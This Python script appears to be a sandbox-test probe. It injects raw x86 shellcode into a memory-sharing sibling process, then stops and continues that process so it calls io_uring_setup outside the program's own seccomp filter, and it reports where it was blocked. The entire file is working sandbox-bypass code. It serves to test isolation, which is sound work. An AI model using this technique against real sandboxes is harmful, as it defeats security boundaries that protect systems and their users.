# SPDX-License-Identifier: Apache-2.0
#
# Tries to: make the process that shares its memory do what it may not do itself: create an io_uring
# Promise:  kernel-surface
# Oracle:   held fd anon_inode:\[io_uring\]
# Stops:    ENOSYS=seccomp EPERM=seccomp
# Because:  a process that a zygote leaves beside the program waits in code that the program can
#           rewrite, and wakes up in the new code when it is stopped and continued. Without such a
#           process, the attack creates one the same way. It is behind the program's own walls
import ctypes
import errno
import mmap
import os
import signal
import sys
import time

WAIT = b"\xb8\x22\0\0\0\x0f\x05\xeb\xf7"  # 2: mov $pause, %eax; syscall; jmp 2b
# clone(CLONE_VM), and the child goes on to wait.
MAKE = (b"\xbf\x00\x01\0\0\x31\xf6\x31\xd2\x4d\x31\xd2\x4d\x31\xc0\xb8\x38\0\0\0\x0f\x05"
        b"\x85\xc0\x74\x01\xc3") + WAIT
SETUP = 425

libc = ctypes.CDLL(None, use_errno=True)
libc.mprotect.argtypes = (ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = (ctypes.c_void_p, ctypes.c_size_t) + (ctypes.c_int,) * 4


def protect(address, bits):
    page = address & -4096
    if libc.mprotect(page, 8192, bits) < 0:
        print("stopped:", errno.errorcode[ctypes.get_errno()], "at mprotect")
        sys.exit()


def find_waiting():
    """Where the process beside us waits, by the address of the call."""
    with open("/proc/self/maps", encoding="utf-8") as maps:
        areas = [line.split() for line in maps if "zygote" in line and "r-xp" in line]
    for area in areas:
        start, end = (int(n, 16) for n in area[0].split("-"))
        at = ctypes.string_at(start, end - start).find(WAIT)
        if at >= 0:
            return start + at + 5
    return 0


def make_waiting():
    page = libc.mmap(None, 8192, mmap.PROT_READ | mmap.PROT_WRITE, 0x22, -1, 0)
    ctypes.memmove(page, MAKE, len(MAKE))
    protect(page, mmap.PROT_READ | mmap.PROT_EXEC)
    before = signal.pthread_sigmask(signal.SIG_BLOCK, signal.valid_signals())
    pid = ctypes.CFUNCTYPE(ctypes.c_int)(page)()
    signal.pthread_sigmask(signal.SIG_SETMASK, before)
    for _ in range(200):  # a process that is still starting crashes on the rewritten code
        with open("/proc/%d/stat" % pid, encoding="utf-8") as file:
            if file.read().rpartition(")")[2].split()[0] == "S":
                break
        time.sleep(0.01)
    return page + len(MAKE) - 4, [pid]


def kin():
    def start(pid):
        with open("/proc/%s/cmdline" % pid, "rb") as file:
            return file.read()
    return [int(pid) for pid in os.listdir("/proc")
            if pid.isdigit() and int(pid) != os.getpid() and start(pid) == start("self")]


call = find_waiting()
waiting = kin() if call else []
if not waiting:
    call, waiting = make_waiting()
params = ctypes.create_string_buffer(512)
answer = ctypes.c_long(1 << 40)
code = (b"\xb8" + SETUP.to_bytes(4, "little") + b"\xbf\x04\0\0\0\x48\xbe" +
        ctypes.addressof(params).to_bytes(8, "little") + b"\x0f\x05\x48\xa3" +
        ctypes.addressof(answer).to_bytes(8, "little") + WAIT)
protect(call, mmap.PROT_READ | mmap.PROT_WRITE)
ctypes.memmove(call, code, len(code))
protect(call, mmap.PROT_READ | mmap.PROT_EXEC)
time.sleep(0.02)
for pid in waiting:
    os.kill(pid, signal.SIGSTOP)
    time.sleep(0.02)
    os.kill(pid, signal.SIGCONT)
for _ in range(100):
    if answer.value != 1 << 40:
        break
    time.sleep(0.01)
if answer.value < 0:
    print("stopped:", errno.errorcode[-answer.value], "at io_uring_setup", flush=True)
libc.prctl(15, b"dw-hold")
time.sleep(1)
for pid in waiting:
    os.kill(pid, signal.SIGKILL)
